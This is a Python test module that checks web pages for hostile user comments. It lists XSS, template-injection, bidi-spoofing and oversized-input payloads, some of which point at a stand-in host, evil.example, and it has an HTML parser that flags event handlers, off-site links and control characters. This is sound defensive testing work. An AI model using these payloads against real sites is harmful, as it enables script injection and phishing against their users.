"""Comments that attack whoever reads them, and what of them must never be in a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '"><svg/onload=alert(3)><math><mtext></mtext><mglyph><style><img src=x onerror=alert(4)>',
    "[click](javascript:alert(5)) javascript:alert(6) data:text/html,<script>alert(7)</script>",
    "<a href=\"javascript:alert(8)\" style='position:fixed;inset:0'>all of it</a>",
    "</div></article></main><form action=https://evil.example><button>Approve</button>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(9)')()}}",
    '<b hx-get="https://evil.example/" hx-trigger="load">x</b> <meta http-equiv=refresh content=0>',
    "Pay \u202egnp.exe\u202c at \u2066here\u2069 and \u200bnow\ufeff",
    "Z" + "\u0334\u0335\u0336\u0337\u0338" * 400 + "algo " + "e" + "\u0301" * 3000,
    "\x1b[31mred\x1b[0m \x00nul \x07bell \x85 =HYPERLINK(\"https://evil.example\")",
    "W" * 65_000,
    "\n" * 3000 + "below",
    "https://" + "a" * 3000 + ".example/" + "b" * 5000,
    "https://xn--pypal-4ve.example/ https://user@evil.example:99/?x=<script>",
]  # fmt: skip
NAME = '"><img src=x onerror=alert(10)>{{7*7}}=1'
"""A person's name may have every printable character."""
_FOREIGN = {"math", "mglyph", "mtext", "iframe", "object", "embed", "base", "style"}
_ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "hx-put", "hx-delete"}
_OWN = re.compile(r"(?:/(?!/)|[?#]|$)")
_ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufeff]")
"""Signs that do something where they are shown: to a terminal, or to the order of the text."""


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._is_typed = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_typed = tag == "textarea"
        if tag in _FOREIGN or (tag == "meta" and "http-equiv" in dict(attrs)):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            if name in _ADDRESSES and not _OWN.match(value or ""):
                self.found.append(f"<{tag} {name}={(value or '')[:60]!r}>")
            if name != "value" and (sign := _ACTING.search(value or "")):
                self.found.append(f"<{tag} {name}> has {sign.group()!r}")
        if tag == "script" and not dict(attrs).get("src"):
            self.found.append("<script> with a text")

    def handle_endtag(self, tag: str) -> None:
        self._is_typed = False

    def handle_data(self, data: str) -> None:
        # What somebody typed goes back into their field as it was.
        if not self._is_typed and (sign := _ACTING.search(data)):
            around = data[max(0, sign.start() - 20) : sign.end() + 20]
            self.found.append(f"{sign.group()!r} in {around!r}")


def acts(page: str) -> list[str]:
    """Return what in a page would run, load, lead away or turn the text around."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found
